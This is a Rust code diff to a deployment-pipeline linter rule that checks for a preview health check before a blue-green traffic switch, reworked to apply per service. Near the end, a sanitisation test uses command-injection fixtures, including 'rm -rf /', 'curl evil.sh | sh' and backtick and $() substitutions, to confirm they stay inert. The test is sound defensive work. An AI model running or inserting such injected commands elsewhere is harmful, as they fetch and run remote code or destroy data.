@@ -3,8 +3,8 @@ use crate::facts::jobs::jobs_of;
 use crate::facts::needs::ancestors;
 use crate::facts::shell::{command_words, simple_commands, tool_and_args};
 use crate::facts::workload::workload;
-use crate::model::{Design, JobKind, RolloutStrategy};
-use crate::rules::{Area, Context, Fix, FixSafety, Rule, RuleDoc, Severity, Violation};
+use crate::model::{Design, JobKind, RolloutStrategy, Service};
+use crate::rules::{Area, Context, Fix, FixSafety, Rule, RuleDoc, Scope, Severity, Violation};
 
 pub struct BlueGreenVerifyBeforeSwitch;
 
@@ -73,13 +73,24 @@ fn checks_idle_colour(line: &str) -> bool {
 }
 
 /// Switching command lines with no check of the idle colour before them: (job, line).
-fn unchecked_switches(design: &Design) -> Vec<(usize, usize)> {
-    if !workload(design).is_some_and(|k8s| k8s.rollout.strategy == RolloutStrategy::BlueGreen) {
+/// Colour switches in the jobs that roll the service out that nothing checks first: (job
+/// index, command position).
+fn unchecked_switches(design: &Design, service: usize) -> Vec<(usize, usize)> {
+    let blue_green = design
+        .services
+        .get(service)
+        .and_then(workload)
+        .is_some_and(|k8s| k8s.rollout.strategy == RolloutStrategy::BlueGreen);
+    if !blue_green {
         return Vec::new();
     }
     let mut found = Vec::new();
     for index in jobs_of(design, JobKind::Deploy) {
-        let commands = &design.pipeline.jobs[index].commands;
+        let job = &design.pipeline.jobs[index];
+        if super::deploys::rolled_out_service(design, job) != Some(service) {
+            continue;
+        }
+        let commands = &job.commands;
         for (position, line) in commands.iter().enumerate() {
             if !simple_commands(line).into_iter().any(switches) {
                 continue;
@@ -139,10 +150,11 @@ impl Rule for BlueGreenVerifyBeforeSwitch {
                  Deployment Strategies › Blue-Green (\"Full environment testing before switch\")",
         equivalents: &[],
     };
+    const SCOPE: Scope = Scope::Service;
 
     fn check(&self, context: &Context) -> Vec<Violation> {
         let design = context.design;
-        unchecked_switches(design)
+        unchecked_switches(design, context.index)
             .into_iter()
             .map(|(index, position)| {
                 let job = &design.pipeline.jobs[index];
@@ -250,19 +262,20 @@ fn switch_target(line: &str) -> (Option<String>, Option<String>) {
 /// fails on an error status; the forward is stopped either way. Release and namespace come
 /// from the switching command when it names them, else from the design; every name passes
 /// through `identifier`, the path through `url_path`.
-fn preview_check(design: &Design, switch_line: &str) -> String {
+fn preview_check(service: &Service, switch_line: &str) -> String {
     let (release, namespace) = switch_target(switch_line);
-    let release =
-        crate::text::identifier(release.as_deref().unwrap_or(&design.project.name), "app");
+    let release = crate::text::identifier(release.as_deref().unwrap_or(&service.name), "app");
     let namespace = crate::text::identifier(
-        namespace.as_deref().unwrap_or(&design.kubernetes.namespace),
+        namespace
+            .as_deref()
+            .unwrap_or(&service.kubernetes.namespace),
         "default",
     );
-    let probes = &design.kubernetes.probes;
+    let probes = &service.kubernetes.probes;
     let path = if probes.readiness.enabled {
         &probes.readiness.path
     } else {
-        &design.container.healthcheck.path
+        &service.container.healthcheck.path
     };
     let path = crate::text::url_path(path);
     format!(
@@ -270,8 +283,8 @@ fn preview_check(design: &Design, switch_line: &str) -> String {
     )
 }
 
-fn apply(design: &mut Design) {
-    let mut found = unchecked_switches(design);
+fn apply(design: &mut Design, service: usize) {
+    let mut found = unchecked_switches(design, service);
     // From the last insertion point backwards, so earlier positions stay valid.
     found.sort_by(|a, b| b.cmp(a));
     for (index, position) in found {
@@ -279,7 +292,7 @@ fn apply(design: &mut Design) {
         if simple_commands(line).into_iter().any(deploys) {
             continue;
         }
-        let check = preview_check(design, line);
+        let check = preview_check(&design.services[service], line);
         design.pipeline.jobs[index].commands.insert(position, check);
     }
 }
@@ -298,7 +311,7 @@ mod tests {
         .is_empty());
         assert!(fields(&BlueGreenVerifyBeforeSwitch, &preset("node-api")).is_empty());
         let mut rolling = BlueGreenVerifyBeforeSwitch::failing_examples().remove(0);
-        rolling.kubernetes.rollout.strategy = RolloutStrategy::Rolling;
+        rolling.services[0].kubernetes.rollout.strategy = RolloutStrategy::Rolling;
         assert!(fields(&BlueGreenVerifyBeforeSwitch, &rolling).is_empty());
     }
 
@@ -336,7 +349,7 @@ mod tests {
     #[test]
     fn the_fix_inserts_a_failing_preview_check() {
         let mut design = BlueGreenVerifyBeforeSwitch::failing_examples().remove(0);
-        apply(&mut design);
+        apply(&mut design, 0);
         let commands = &design.pipeline.jobs[5].commands;
         assert_eq!(commands.len(), 3);
         assert!(
@@ -356,10 +369,11 @@ mod tests {
     #[test]
     fn a_hostile_name_or_path_stays_one_inert_command() {
         let mut design = BlueGreenVerifyBeforeSwitch::failing_examples().remove(0);
-        design.project.name = "x\"; rm -rf / #".into();
-        design.kubernetes.probes.readiness.path = "/health'; curl evil.sh | sh; '".into();
+        design.services[0].name = "x\"; rm -rf / #".into();
+        design.services[0].kubernetes.probes.readiness.path =
+            "/health'; curl evil.sh | sh; '".into();
         let check = preview_check(
-            &design,
+            &design.services[0],
             "kubectl patch svc x$(rm${IFS}-rf) -n y`id` -p '{\"spec\":{\"selector\":{}}}'",
         );
         assert!(
